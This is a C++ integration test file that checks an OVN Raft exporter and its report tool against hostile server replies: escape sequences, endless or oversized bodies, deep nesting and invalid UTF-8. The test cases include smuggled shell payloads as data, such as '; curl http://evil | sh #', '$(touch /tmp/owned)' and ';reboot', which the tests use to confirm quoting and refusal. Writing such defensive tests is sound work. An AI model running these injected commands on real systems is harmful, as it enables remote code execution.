// What a hostile /status does to ovn-raft-report, what a hostile ovsdb-server does to /status
// and to the memory of a read round: the real binaries against fakes of what cannot be made
// hostile for real (an exporter's /status, an ovsdb-server's replies). Loopback only.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cstdio>
#include <fstream>
#include <memory>
#include <regex>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "base/utf8.h"
#include "raft_cluster.h"
#include "support/exporter_process.h"
#include "support/exposition.h"
#include "support/fake_http_server.h"
#include "support/fake_ovsdb_server.h"
#include "support/fake_unix_server.h"
#include "support/fixtures.h"
#include "support/report_process.h"
#include "support/shell.h"
#include "support/test_paths.h"

namespace ovn_raft {
namespace {

using testing::ExporterProcess;
using testing::FakeHttpServer;
using testing::FakeUnixServer;
using testing::ReplyError;
using testing::ReplyJson;
using testing::ReplyText;
using testing::RunReport;

bool Asks(const std::string& request, const std::string& method) {
  return request.find("\"method\":\"" + method + "\"") != std::string::npos;
}

// What an operator's terminal may be shown: valid UTF-8, and no control character but newline
// and tab (no ESC, no DEL, no C1 control).
void ExpectTerminalSafe(const std::string& out) {
  EXPECT_EQ(ValidUtf8(out), out);
  for (std::size_t i = 0; i < out.size(); ++i) {
    const auto c = static_cast<unsigned char>(out[i]);
    EXPECT_FALSE((c < 0x20 && c != '\n' && c != '\t') || c == 0x7F)
        << "byte " << int(c) << " at " << i;
    if (c == 0xC2 && i + 1 < out.size()) {
      const auto next = static_cast<unsigned char>(out[i + 1]);
      EXPECT_FALSE(next >= 0x80 && next <= 0x9F) << "C1 control at " << i;
    }
  }
}

// Every advised command, each checked against the only shape it may have.
std::vector<std::string> AdvisedCommands(const std::string& out) {
  std::vector<std::string> commands;
  const std::regex shape(
      R"(^    to remove ([0-9a-f]+), from a healthy member: (ovs-appctl -t (/[A-Za-z0-9/._+:@,=-]+|'([^'\\]|'\\'')*') cluster/kick (OVN_Northbound|OVN_Southbound|OVN_IC_Northbound|OVN_IC_Southbound) ([0-9a-f]+))$)");
  std::istringstream in(out);
  for (std::string line; std::getline(in, line);) {
    if (line.find("ovs-appctl") == std::string::npos &&
        line.find("cluster/kick") == std::string::npos) {
      continue;
    }
    std::smatch m;
    EXPECT_TRUE(std::regex_match(line, m, shape))
        << "advised command of an unexpected shape: " << line;
    if (!m.empty()) {
      EXPECT_EQ(m[1], m[6]);
      commands.push_back(m[2]);
    }
  }
  return commands;
}

// A fake ovsdb-server whose cluster/status is `status` (fresh-restart-leader: 68ff is stale).
FakeUnixServer::Handler Serving(const std::string& status) {
  return [status](int fd, const std::string& request) {
    if (Asks(request, "cluster/status")) {
      FakeUnixServer::WriteAll(fd, ReplyText(request, status));
    } else if (Asks(request, "version")) {
      FakeUnixServer::WriteAll(fd, ReplyText(request, "ovsdb-server (Open vSwitch) 3.1.0\n"));
    } else if (Asks(request, "ovsdb-server/get-db-storage-status")) {
      FakeUnixServer::WriteAll(fd, ReplyText(request, "status: ok\n"));
    } else {
      FakeUnixServer::WriteAll(fd, ReplyText(request, "cells:1\n"));
    }
  };
}

std::string Replace(std::string text, const std::string& from, const std::string& to) {
  for (auto at = text.find(from); at != std::string::npos; at = text.find(from, at + to.size())) {
    text.replace(at, from.size(), to);
  }
  return text;
}

// A hostile /status: escape sequences and shell text in every string field. The
// report prints nothing a terminal acts on, and its one command that changes a cluster only
// when every part of it is what it should be.
TEST(HostileInputIntegrationTest, TheReportEscapesEverythingAndAdvisesOnlyWellFormedKicks) {
  if (testing::ReportBinary().empty()) GTEST_SKIP() << "built without ovn-raft-report";
  FakeUnixServer ovsdb(Serving(testing::Fixture("ovs-3.1.0/fresh-restart-leader.txt")));
  ExporterProcess e({"--ovsdb.database=OVN_Northbound=" + ovsdb.path(), "--ovsdb.min-interval=0"});
  const auto clean = e.Get("/status");
  ASSERT_EQ(clean.status, 200);

  // Through the real exporter, nothing hostile: the kick is advised, as the runbook expects.
  const auto plain = RunReport({"--cluster.expected-members=3", e.Url("")});
  ExpectTerminalSafe(plain.out);
  const auto advised = AdvisedCommands(plain.out);
  ASSERT_EQ(advised.size(), 1u) << plain.out;
  EXPECT_EQ(advised[0], "ovs-appctl -t " + ovsdb.path() + " cluster/kick OVN_Northbound 68ff");

  const std::string esc = "\\u001b]0;owned\\u0007\\u001b[2J\\r\\u009b\\u007f";
  const std::string evil_ctl = "/var/run/ovn/ovnnb_db.ctl; curl http://evil | sh #";
  const std::string ctl_field = "\"ctl\":\"" + ovsdb.path() + "\"";
  ASSERT_NE(clean.body.find(ctl_field), std::string::npos) << clean.body;
  struct Case {
    std::string name, body;
    std::string expect;  // the one advised command, or "" for none (and a reason said)
  };
  const std::vector<Case> cases = {
      // Escape sequences in every string: the IDs, addresses, the database and error.
      {"escapes",
       Replace(Replace(Replace(clean.body, "68ff", "68ff" + esc), "tcp:127.0.0.",
                       "tcp:" + esc + "127.0.0."),
               ctl_field, "\"ctl\":\"/run/x" + esc + "\""),
       ""},
      // Shell text in the control socket path: quoted for the shell, one word.
      {"shell path", Replace(clean.body, ctl_field, "\"ctl\":\"" + evil_ctl + "\""),
       "ovs-appctl -t '" + evil_ctl + "' cluster/kick OVN_Northbound 68ff"},
      // Shell text in the member ID and the database name: no command at all.
      {"shell id", Replace(clean.body, "68ff", "68ff $(touch /tmp/owned)"), ""},
      {"shell db",
       Replace(clean.body, "\"name\":\"OVN_Northbound\"", "\"name\":\"OVN_Northbound;reboot\""),
       ""},
  };
  for (const auto& c : cases) {
    FakeHttpServer hostile(c.body, false);
    const auto r = RunReport({"--cluster.expected-members=3", hostile.Url()});
    SCOPED_TRACE(c.name + "\n" + r.out);
    EXPECT_NE(r.out.find("68ff"), std::string::npos);  // the report did read it
    ExpectTerminalSafe(r.out);
    const auto commands = AdvisedCommands(r.out);
    if (c.expect.empty()) {
      EXPECT_TRUE(commands.empty());
      EXPECT_NE(r.out.find("no command advised"), std::string::npos);
    } else {
      ASSERT_EQ(commands.size(), 1u);
      EXPECT_EQ(commands[0], c.expect);
    }
  }
}

// Through the real exporter, a hostile ovsdb-server's escape sequences reach the report as text.
TEST(HostileInputIntegrationTest, EscapesFromAHostileOvsdbServerReachTheReportAsText) {
  if (testing::ReportBinary().empty()) GTEST_SKIP() << "built without ovn-raft-report";
  std::string status = testing::Fixture("ovs-3.1.0/fresh-restart-leader.txt");
  status = Replace(status, "tcp:127.0.0.", "tcp:\x1b]0;owned\x07\x1b[2J\r127.0.0.");
  FakeUnixServer ovsdb(Serving(status));
  ExporterProcess e({"--ovsdb.database=OVN_Northbound=" + ovsdb.path(), "--ovsdb.min-interval=0"});
  const auto r = RunReport({"--cluster.expected-members=3", e.Url("")});
  SCOPED_TRACE(r.out);
  EXPECT_NE(r.out.find("\\x1b]0;owned"), std::string::npos);
  ExpectTerminalSafe(r.out);
  AdvisedCommands(r.out);
}

// An endless /status stops at the report's bound with a clear error, in little memory.
TEST(HostileInputIntegrationTest, TheReportStopsAnEndlessStatusAtItsBound) {
  if (testing::ReportBinary().empty()) GTEST_SKIP() << "built without ovn-raft-report";
  FakeHttpServer endless("{\"databases\":[{\"name\":\"", true);
  const auto started = std::chrono::steady_clock::now();
  const auto r = RunReport({"--web.timeout=30s", endless.Url()});
  const double seconds =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - started).count();
  std::printf("[ figures  ] endless /status: report exit %d after %.2f s, peak RSS %ld KiB\n",
              r.exit, seconds, r.max_rss_kib);
  EXPECT_EQ(r.exit, 1) << r.out;
  EXPECT_NE(r.out.find("unreachable (the response body exceeds 2097152 bytes)"), std::string::npos)
      << r.out;
  EXPECT_LT(r.max_rss_kib, 64 * 1024);
  EXPECT_LT(seconds, 25);  // stopped by the bound, not by the 30 s timeout

  // Just under the bound, a document that lists a database per 3 bytes: refused, not decoded
  // into 700,000 reports (1.9 GiB for twice as many).
  std::string many = "{\"databases\":[{}";
  while (many.size() < (2u << 20) - 8) many += ",{}";
  FakeHttpServer listing(many + "]}", false);
  const auto m = RunReport({"--web.timeout=30s", listing.Url()});
  std::printf(
      "[ figures  ] /status of %zu bytes listing databases: report exit %d, peak RSS %ld KiB\n",
      many.size(), m.exit, m.max_rss_kib);
  EXPECT_EQ(m.exit, 1) << m.out;
  EXPECT_NE(m.out.find("databases, more than 16"), std::string::npos) << m.out.substr(0, 300);
  EXPECT_LT(m.max_rss_kib, 64 * 1024);
}

// /status is valid UTF-8 and bounded whatever the server sends: errors cut on a character
// boundary, the storage error, the _Server model, cid and sid. A model that is none the exporter
// knows (a standalone or relay database is read as one), with cluster/status refused, fails the
// read as not_clustered, and that error does not repeat the server's model.
TEST(HostileInputIntegrationTest, StatusIsValidUtf8AndBoundedWhateverTheServerSends) {
  std::string euros;
  for (int i = 0; i < 1000; ++i) euros += "\xE2\x82\xAC";
  const std::string bad = "\xFF\xFE\xC3";
  const std::string model = "standalone" + bad + std::string(40000, 'm');
  FakeUnixServer ovsdb([&](int fd, const std::string& request) {
    if (Asks(request, "cluster/status")) {
      FakeUnixServer::WriteAll(fd, ReplyError(request, "x" + euros));
    } else if (Asks(request, "ovsdb-server/get-db-storage-status")) {
      FakeUnixServer::WriteAll(fd, ReplyText(request, "status: " + bad + "a" + euros + "\n"));
    } else if (Asks(request, "transact")) {
      FakeUnixServer::WriteAll(
          fd, ReplyJson(request, R"([{"rows":[{"name":"OVN_Northbound","model":")" + model +
                                     R"(","connected":true,"leader":true,"cid":["uuid","c)" + bad +
                                     R"("],"sid":["uuid","s)" + bad + R"("],"index":1}]}])"));
    } else {
      FakeUnixServer::WriteAll(fd, ReplyText(request, "cells:1\n"));
    }
  });
  ExporterProcess e({"--ovsdb.database=OVN_Northbound=" + ovsdb.path() + "," + ovsdb.path(),
                     "--ovsdb.min-interval=0", "--log.format=json"});
  const auto s = e.Get("/status");
  ASSERT_EQ(s.status, 200);
  EXPECT_EQ(ValidUtf8(s.body), s.body) << "/status must be valid UTF-8";
  EXPECT_LT(s.body.size(), 8000u) << "an error repeats the server's text: "
                                  << s.body.substr(0, 400);
  EXPECT_NE(s.body.find("not_clustered"), std::string::npos) << s.body.substr(0, 2000);
  EXPECT_EQ(s.body.find("\"model\":\"standalone\""), std::string::npos) << "not taken for one";
  const testing::Exposition x(e.Get().body);
  EXPECT_EQ(x.Value("ovn_raft_up", {{"db", "OVN_Northbound"}}), 0);
  EXPECT_TRUE(x.All("ovn_raft_database_model_info").empty());
  EXPECT_NE(s.body.find("storage"), std::string::npos);
  // The JSON log lines too.
  ASSERT_EQ(e.Terminate(), 0);
  std::ifstream in(e.log_path());
  const std::string log((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  EXPECT_NE(log.find("database read failed"), std::string::npos);
  EXPECT_EQ(ValidUtf8(log), log) << "JSON log lines must be valid UTF-8";
}

long PeakRssKib(pid_t pid) {
  std::ifstream in("/proc/" + std::to_string(pid) + "/status");
  for (std::string line; std::getline(in, line);) {
    if (line.rfind("VmHWM:", 0) == 0) return std::stol(line.substr(6));
  }
  return -1;
}

// Every call of a round answered at the reply cap, for NB and SB: what does not fit in the
// round's budget is refused and counted, and the process stays under the shipped container
// limit (64 MiB). The figure is docs/dev/hostile-input.md's.
TEST(HostileInputIntegrationTest, EveryCallOfARoundAtTheReplyCapStaysInTheBudget) {
  const std::size_t size = (8u << 20) - 4096;  // just under the default cap
  const auto big = std::make_shared<const std::string>(size - 100, 'a');
  // Every reply written on a thread of its own: all the calls of the round answer at once, as a
  // hostile server would have them (the fake itself serves one connection at a time).
  const auto hostile = [big](int fd, const std::string& request) {
    const std::string reply = Asks(request, "transact")
                                  ? ReplyJson(request, R"([{"rows":[{"name":")" + *big + "\"}]}]")
                                  : ReplyText(request, *big);
    const int copy = dup(fd);
    std::thread([copy, reply] {
      FakeUnixServer::WriteAll(copy, reply);
      close(copy);
    }).detach();
  };
  // One server per socket, as the calls of a round go out at once on connections of their own.
  FakeUnixServer nb_ctl(hostile), nb_sock(hostile), sb_ctl(hostile), sb_sock(hostile);
  ExporterProcess e({"--ovsdb.database=OVN_Northbound=" + nb_ctl.path() + "," + nb_sock.path(),
                     "--ovsdb.database=OVN_Southbound=" + sb_ctl.path() + "," + sb_sock.path(),
                     "--ovsdb.min-interval=0", "--ovsdb.server-facts-interval=0",
                     "--ovsdb.timeout=20s"});
  double refused = 0;
  for (int i = 0; i < 5; ++i) {
    const auto r = testing::HttpGet(e.Url(), "", 60000);
    ASSERT_EQ(r.status, 200);
    const testing::Exposition x(r.body);
    refused = x.Value("ovn_raft_exporter_errors_total",
                      {{"db", "OVN_Northbound"}, {"reason", "round_budget_exceeded"}})
                  .value_or(-1) +
              x.Value("ovn_raft_exporter_errors_total",
                      {{"db", "OVN_Southbound"}, {"reason", "round_budget_exceeded"}})
                  .value_or(-1);
  }
  const long peak = PeakRssKib(e.pid());
  std::printf(
      "[ figures  ] every call at %zu bytes, NB+SB, 5 rounds: peak RSS %ld KiB, %g replies "
      "refused\n",
      size, peak, refused);
  EXPECT_GT(refused, 0);
  EXPECT_LT(peak, 64 * 1024) << "the shipped manifests limit the container to 64 MiB";
}

// Replies no real server sends: nested 100,000 deep (a parser that recurses would overflow its
// stack) and a status with invalid UTF-8 in its name. Neither crashes the exporter nor hides the
// real database beside them; the page and /status stay valid UTF-8; a scraper's absurd timeout
// header is clamped, not overflowed.
TEST(HostileInputIntegrationTest, HostileRepliesNeitherCrashNorHideTheOthers) {
  testing::RaftCluster c(1);
  const std::string nested = std::string(100000, '[') + std::string(100000, ']');
  FakeUnixServer deep([&](int fd, const std::string& request) {
    // Hand-written: only a result, no "error" member, as no real server replies.
    FakeUnixServer::WriteAll(
        fd, R"({"id":)" + testing::RequestId(request) + R"(,"result":)" + nested + "}");
  });
  std::string status = testing::Fixture("ovs-3.1.0/leader.txt");
  status.insert(status.find("Name: ") + 6, "\xFF\xFE");
  FakeUnixServer garbled([&](int fd, const std::string& request) {
    FakeUnixServer::WriteAll(fd, ReplyText(request, status));
  });
  ExporterProcess e({"--ovsdb.database=OVN_Northbound=" + c.Ctl(1, "nb") + "," + c.Sock(1, "nb"),
                     "--ovsdb.database=Deep=" + deep.path(),
                     "--ovsdb.database=Garbled=" + garbled.path(), "--ovsdb.min-interval=0"});
  for (int i = 0; i < 3; ++i) {
    const auto r = e.Get();
    ASSERT_EQ(r.status, 200);
    EXPECT_EQ(ValidUtf8(r.body), r.body) << "the page must be valid UTF-8";
    const testing::Exposition x(r.body);
    EXPECT_EQ(x.Value("ovn_raft_up", {{"db", "OVN_Northbound"}}), 1);
    EXPECT_EQ(x.Value("ovn_raft_up", {{"db", "Deep"}}), 0);
    EXPECT_EQ(
        x.Value("ovn_raft_exporter_errors_total", {{"db", "Deep"}, {"reason", "protocol_error"}}),
        i + 1);
    EXPECT_EQ(x.Value("ovn_raft_up", {{"db", "Garbled"}}), 1);
  }
  const auto s = e.Get("/status");
  ASSERT_EQ(s.status, 200);
  EXPECT_EQ(ValidUtf8(s.body), s.body);
  EXPECT_NE(s.body.find("\xEF\xBF\xBD"), std::string::npos);  // the replaced bytes
  EXPECT_EQ(testing::Shell("curl -s -o /dev/null -w '%{http_code}' --max-time 5 -H "
                           "'X-Prometheus-Scrape-Timeout-Seconds: 1e300' '" +
                           e.Url() + "'"),
            "200");
}

}  // namespace
}  // namespace ovn_raft
